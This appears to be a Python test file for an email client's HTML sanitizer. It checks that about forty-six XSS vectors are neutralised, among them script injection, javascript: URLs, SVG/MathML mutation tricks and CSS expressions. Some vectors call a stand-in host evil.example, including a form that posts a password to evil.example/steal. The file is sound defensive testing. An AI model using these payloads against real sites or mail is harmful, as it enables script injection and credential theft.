"""The sanitized HTML body against known attack vectors (OWASP XSS cheat sheet style)."""
from __future__ import annotations

import html.parser

import pytest

from mailyard.store.mailbox.safe_html import TAGS, URL_SCHEMES, sanitize

VECTORS = {
    "script": '<script>alert(1)</script>',
    "script_mixed_case": '<ScRiPt SRC=//evil.example/x.js></ScRiPt>',
    "script_split": '<scr<script>ipt>alert(1)</scr</script>ipt>',
    "img_onerror": '<img src=x onerror="alert(1)">',
    "img_onerror_unquoted": '<IMG SRC=/ onerror=alert(String.fromCharCode(88,83,83))></img>',
    "body_onload": '<body onload=alert(1)>',
    "div_onmouseover": '<div onmouseover="alert(1)">hover</div>',
    "a_javascript": '<a href="javascript:alert(1)">click</a>',
    "a_javascript_entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "a_javascript_tab": '<a href="jav\tascript:alert(1)">x</a>',
    "a_vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a_data_html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "img_data_svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "style_expression": '<div style="width: expression(alert(1))">x</div>',
    "style_expression_comment": '<div style="width: expr/**/ession(alert(1))">x</div>',
    "style_escape": '<div style="background:\\75 rl(javascript:alert(1))">x</div>',
    "style_url": '<div style="background-image: url(javascript:alert(1))">x</div>',
    "style_behavior": '<div style="behavior: url(x.htc)">x</div>',
    "style_moz_binding": '<div style="-moz-binding: url(http://evil.example/x.xml#xss)">x</div>',
    "style_overlay": '<div style="position: fixed; top: 0; left: 0; z-index: 9999">fake login</div>',
    "style_tag": '<style>@import "http://evil.example/x.css"; body{background:url(javascript:x)}</style>',
    "svg_onload": '<svg onload=alert(1)>',
    "svg_script": '<svg><script>alert(1)</script></svg>',
    "svg_animate_href": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
    "svg_use": '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
    "math_href": '<math href="javascript:alert(1)">CLICK</math>',
    "math_mxss": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "iframe_srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe_src": '<iframe src="https://evil.example/"></iframe>',
    "base_href": '<base href="https://evil.example/"><a href="x">x</a>',
    "form_action": '<form action="https://evil.example/steal"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
    "object_data": '<object data="javascript:alert(1)"></object>',
    "embed_src": '<embed src="https://evil.example/x.swf">',
    "link_stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "comment_conditional": '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    "noscript_break": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "table_background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "img_srcset": '<img srcset="https://tracker.example/p.gif 1x">',
    "img_lowsrc": '<img lowsrc="javascript:alert(1)">',
    "video_poster": '<video poster="javascript:alert(1)"></video>',
    "xml_namespace": '<html xmlns:xss><?import namespace="xss" implementation="x.htc"><xss:xss>x</xss:xss></html>',
    "relative_url": '<a href="/api/delete-account">x</a><img src="/logout">',
    "template": '<template><script>alert(1)</script></template>',
    "details_ontoggle": '<details open ontoggle=alert(1)>',
    "a_id_clobber": '<a id="location" name="href">x</a><form name=document></form>',
}


class _Audit(html.parser.HTMLParser):
    """Everything in the output a browser could act on."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") or name in ("srcdoc", "formaction", "srcset", "id", "name"):
                self.problems.append(f"attribute {name}")
            if name in ("href", "src", "cite", "action", "background", "poster", "lowsrc"):
                scheme = value.split(":", 1)[0].lower() if ":" in value else ""
                if scheme not in URL_SCHEMES:
                    self.problems.append(f"{name}={value!r}")
            if name == "src" and value.lower().startswith(("http", "//")):
                self.problems.append(f"remote image {value!r}")
            if name == "style" and any(w in value.lower() for w in
                                       ("expression", "url(", "\\", "/*", "position", "behavior",
                                        "binding", "javascript")):
                self.problems.append(f"style {value!r}")

    handle_startendtag = handle_starttag


def problems(output: str) -> list[str]:
    audit = _Audit()
    audit.feed(output)
    audit.close()
    return audit.problems


@pytest.mark.parametrize("name", sorted(VECTORS))
def test_attack_vector_is_neutralized(name):
    output = sanitize(VECTORS[name]).html
    assert problems(output) == [], output


def test_the_audit_sees_every_vector_in_the_raw_html():
    """The audit must catch each vector unsanitized, or the test above proves
    nothing. The exceptions hide their payload where html.parser does not
    look (raw text, comments, foreign content), so the sanitizer must drop
    them whole: their output must carry no tag that could run it."""
    text_only = {"script", "script_mixed_case", "script_split", "svg_script", "math_mxss",
                 "style_tag", "comment_conditional", "noscript_break", "template",
                 "xml_namespace", "math_href", "svg_animate_href", "svg_use", "img_srcset"}
    for name, vector in VECTORS.items():
        if name not in text_only:
            assert problems(vector), name
        else:
            assert not any(t in sanitize(vector).html for t in ("<script", "<svg", "<math",
                                                                "<style", "<noscript")), name


def test_mail_layout_survives():
    kept = ('<table border="0" cellpadding="4"><tr><td style="color: #333; padding: 8px" '
            'bgcolor="#eeeeee"><p><b>Invoice</b> <a href="https://shop.example/i/1" '
            'rel="noopener noreferrer nofollow">view</a> <font color="red">due</font></p>'
            '<img src="cid:logo@shop" alt="logo" width="40"></td></tr></table>')
    assert sanitize(kept).html == kept.replace("<table", "<table").replace(
        "<tr>", "<tbody><tr>").replace("</tr></table>", "</tr></tbody></table>")


def test_remote_images_blocked_by_default_and_allowed_on_request():
    message = '<p>hi</p><img src="https://tracker.example/open.gif?u=42" alt="pixel">'
    blocked = sanitize(message)
    assert "tracker.example" not in blocked.html and blocked.remote_content_blocked
    assert 'alt="pixel"' in blocked.html
    allowed = sanitize(message, allow_remote_images=True)
    assert 'src="https://tracker.example/open.gif?u=42"' in allowed.html
    assert not allowed.remote_content_blocked
    # Still no scripts when images are allowed.
    assert sanitize('<img src="https://x.example/a.png" onerror=alert(1)>',
                    allow_remote_images=True).html == '<img src="https://x.example/a.png">'


def test_inline_images_are_not_remote():
    output = sanitize('<img src="cid:part1@example">')
    assert output.html == '<img src="cid:part1@example">' and not output.remote_content_blocked
